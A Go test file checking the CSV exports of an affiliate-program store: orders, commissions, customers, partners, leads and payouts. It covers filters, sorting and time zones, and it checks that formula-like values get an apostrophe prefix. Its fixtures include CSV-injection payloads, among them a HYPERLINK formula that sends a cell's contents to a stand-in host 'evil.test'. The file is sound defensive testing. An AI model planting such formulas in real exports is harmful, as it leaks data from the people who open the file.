package sqlite

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"partnerbook/backend/domain"
)

// exportProgram is reportProgram with a partner whose name is a formula, orders in March (one
// to a customer known only by a name that is a formula), leads and a payout run.
//
//	#1 1 Mar 10:00 UTC  ana 52.00 KIRA10        kira 10.40, lena 2.60
//	#2 2 Mar 09:00 UTC  bo  30.00 LENA, 15.00 refunded   lena 3.00
//	#3 3 Mar 09:00 UTC  "=SUM(A1:A9)" (a name) 10.00     not credited
//	#4 5 Mar 23:30 UTC  ana 20.00 KIRA10 (6 March in Berlin)   kira 4.00, lena 1.00
func exportProgram(t *testing.T, s *Store) domain.Program {
	t.Helper()
	prog := reportProgram(t, s)
	mustAdd(t, s, prog.ID, partner(`=HYPERLINK("http://evil.test?"&A1,"click")`, "evil@example.com", "evil", "-2+3"))
	formula := at("#3", time.Date(2025, 3, 3, 9, 0, 0, 0, time.UTC), 1000, 0, "", "")
	formula.Order.CustomerName, formula.Order.CustomerRef = "=SUM(A1:A9)", "c-3"
	if _, err := importItems(t, s, prog.ID, domain.OrderImport{},
		at("#1", time.Date(2025, 3, 1, 10, 0, 0, 0, time.UTC), 5200, 0, "ana@example.org", "KIRA10"),
		at("#2", time.Date(2025, 3, 2, 9, 0, 0, 0, time.UTC), 3000, 1500, "bo@example.org", "LENA"), formula,
		at("#4", time.Date(2025, 3, 5, 23, 30, 0, 0, time.UTC), 2000, 0, "ana@example.org", "KIRA10")); err != nil {
		t.Fatal(err)
	}
	for _, l := range []domain.Lead{{Partner: "kira", Email: "lia@example.org", Name: "Lia"},
		{Partner: "lena", Email: "max@example.org", Name: "@max", Status: "qualified"}, {Partner: "kira", Email: "noa@example.org", Status: "lost"}} {
		l.Source = "manual"
		if _, err := s.AddLead(ctx, prog.ID, l); err != nil {
			t.Fatal(err)
		}
	}
	for k, v := range map[string]string{"company.name": "Atelier GmbH", "company.address": "Hauptstraße 1, Berlin"} {
		if err := s.SetSetting(ctx, k, v); err != nil {
			t.Fatal(err)
		}
	}
	payday(s)
	if run, err := s.RunPayouts(ctx, prog.ID, "2025-04-10", false); err != nil || len(run.Payouts) != 1 {
		t.Fatalf("run = %+v, %v", run, err)
	}
	return prog
}

// readCSV parses an export and checks its header.
func readCSV(t *testing.T, b []byte, header []string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b)
	}
	if len(recs) == 0 || strings.Join(recs[0], ",") != strings.Join(header, ",") {
		t.Fatalf("header = %v, want %v", recs, header)
	}
	return recs[1:]
}

// column is one column of the records, joined by spaces.
func column(recs [][]string, header []string, name string) string {
	i := strings.Index(","+strings.Join(header, ",")+",", ","+name+",")
	i = strings.Count(strings.Join(header, ",")[:i], ",")
	var out []string
	for _, r := range recs {
		out = append(out, r[i])
	}
	return strings.Join(out, " ")
}

func TestExports(t *testing.T) {
	s := open(t)
	prog := exportProgram(t, s)
	pid := prog.ID
	export := func(t *testing.T, header []string, fn func(w *bytes.Buffer) error) [][]string {
		t.Helper()
		var b bytes.Buffer
		if err := fn(&b); err != nil {
			t.Fatal(err)
		}
		return readCSV(t, b.Bytes(), header)
	}
	h := OrdersCSVHeader
	t.Run("orders", func(t *testing.T) {
		all := export(t, h, func(w *bytes.Buffer) error { return s.ExportOrders(ctx, domain.OrderQuery{ProgramID: pid}, w) })
		if got := column(all, h, "order"); got != "#1 #2 #3 #4" {
			t.Errorf("orders = %q", got)
		}
		// times in Berlin; a customer name that is a formula is text
		if got := column(all, h, "time"); got != "2025-03-01 11:00:00 2025-03-02 10:00:00 2025-03-03 10:00:00 2025-03-06 00:30:00" {
			t.Errorf("times = %q", got)
		}
		if all[2][3] != "'=SUM(A1:A9)" || all[1][7] != "15.00" || all[1][8] != "partially_refunded" || all[0][9] != "kira" {
			t.Errorf("rows = %q", all)
		}
		// the list's filters and sort: kira's orders of 6 March in Berlin, newest first
		q := domain.OrderQuery{ProgramID: pid, Partner: "KIRA", Desc: true, Limit: 1, From: "2025-03-06"}
		if got := column(export(t, h, func(w *bytes.Buffer) error { return s.ExportOrders(ctx, q, w) }), h, "order"); got != "#4" {
			t.Errorf("kira from 6 March = %q", got)
		}
		q = domain.OrderQuery{ProgramID: pid, Status: "paid", Sort: "total", Desc: true}
		if got := column(export(t, h, func(w *bytes.Buffer) error { return s.ExportOrders(ctx, q, w) }), h, "order"); got != "#1 #4 #3" {
			t.Errorf("paid by total = %q", got)
		}
		q = domain.OrderQuery{ProgramID: pid, Search: "ana@"}
		if got := column(export(t, h, func(w *bytes.Buffer) error { return s.ExportOrders(ctx, q, w) }), h, "order"); got != "#1 #4" {
			t.Errorf("search ana@ = %q", got)
		}
		var b bytes.Buffer
		if err := s.ExportOrders(ctx, domain.OrderQuery{ProgramID: pid, From: "1.3.2025"}, &b); domain.ErrorCode(err) != domain.EInvalid || b.Len() != 0 {
			t.Errorf("a bad day: %v, wrote %q", err, b.String())
		}
	})
	t.Run("commissions", func(t *testing.T) {
		h := CommissionsCSVHeader
		f := domain.CommissionFilter{ProgramID: pid, Partner: "lena", AsOf: "2025-03-20"}
		recs := export(t, h, func(w *bytes.Buffer) error { return s.ExportCommissions(ctx, f, w) })
		got := column(recs, h, "order") + " | " + column(recs, h, "kind") + " | " + column(recs, h, "amount") + " | " + column(recs, h, "status")
		if want := "#4 #2 #1 | second_tier sale second_tier | 1.00 3.00 2.60 | pending pending pending"; got != want {
			t.Errorf("lena's lines = %s, want %s", got, want)
		}
		f = domain.CommissionFilter{ProgramID: pid, Kind: "sale", From: "2025-03-02", To: "2025-03-05"}
		if got := column(export(t, h, func(w *bytes.Buffer) error { return s.ExportCommissions(ctx, f, w) }), h, "order"); got != "#2" {
			t.Errorf("sales of 2-5 March = %q", got)
		}
		if err := s.ExportCommissions(ctx, domain.CommissionFilter{ProgramID: pid, Status: "lost"}, &bytes.Buffer{}); domain.ErrorCode(err) != domain.EInvalid {
			t.Errorf("a bad status: %v", err)
		}
	})
	t.Run("customers", func(t *testing.T) {
		h := CustomersCSVHeader
		all := export(t, h, func(w *bytes.Buffer) error { return s.ExportCustomers(ctx, domain.CustomerFilter{ProgramID: pid}, w) })
		if got := column(all, h, "name"); !strings.Contains(got, "'=SUM(A1:A9)") {
			t.Errorf("names = %q", all)
		}
		recs := export(t, h, func(w *bytes.Buffer) error {
			return s.ExportCustomers(ctx, domain.CustomerFilter{ProgramID: pid, Search: "an", Limit: 1, Offset: 5}, w)
		})
		if len(recs) != 1 || recs[0][0] != "ana@example.org" || recs[0][5] != "2" || recs[0][6] != "2025-03-01 11:00:00" {
			t.Errorf("search an = %q", recs)
		}
	})
	t.Run("partners", func(t *testing.T) {
		h := PartnersCSVHeader
		all := export(t, h, func(w *bytes.Buffer) error {
			return s.ExportPartners(ctx, domain.PartnerFilter{ProgramID: pid, Page: domain.Page{Sort: "key", Desc: true, Limit: 1}}, w)
		})
		if got := column(all, h, "key"); got != "lena kira evil" {
			t.Errorf("keys by key, descending = %q", got)
		}
		if all[1][4] != "lena" || all[2][0] != `'=HYPERLINK("http://evil.test?"&A1,"click")` || all[2][3] != "'-2+3" {
			t.Errorf("rows = %q", all)
		}
		recs := export(t, h, func(w *bytes.Buffer) error {
			return s.ExportPartners(ctx, domain.PartnerFilter{ProgramID: pid, Search: "kira10"}, w)
		})
		if len(recs) != 1 || recs[0][2] != "kira" || recs[0][3] != "KIRA10" {
			t.Errorf("search by coupon = %q", recs)
		}
	})
	t.Run("leads", func(t *testing.T) {
		h := LeadsCSVHeader
		recs := export(t, h, func(w *bytes.Buffer) error {
			return s.ExportLeads(ctx, domain.LeadFilter{ProgramID: pid, Partner: "kira", Page: domain.Page{Sort: "email"}}, w)
		})
		if got := column(recs, h, "email") + " | " + column(recs, h, "status"); got != "lia@example.org noa@example.org | new lost" {
			t.Errorf("kira's leads = %s", got)
		}
		recs = export(t, h, func(w *bytes.Buffer) error {
			return s.ExportLeads(ctx, domain.LeadFilter{ProgramID: pid, Status: "qualified"}, w)
		})
		if len(recs) != 1 || recs[0][0] != "lena" || recs[0][2] != "'@max" {
			t.Errorf("qualified = %q", recs)
		}
	})
	t.Run("payouts", func(t *testing.T) {
		h := PayoutsCSVHeader
		recs := export(t, h, func(w *bytes.Buffer) error { return s.ExportPayouts(ctx, domain.PayoutFilter{ProgramID: pid}, w) })
		if got := column(recs, h, "partner") + " " + column(recs, h, "amount"); got != "kira 14.40" {
			t.Errorf("payouts = %s (%q)", got, recs)
		}
		recs = export(t, h, func(w *bytes.Buffer) error {
			return s.ExportPayouts(ctx, domain.PayoutFilter{ProgramID: pid, Partner: "lena"}, w)
		})
		if len(recs) != 0 {
			t.Errorf("lena's payouts = %q", recs)
		}
	})
}
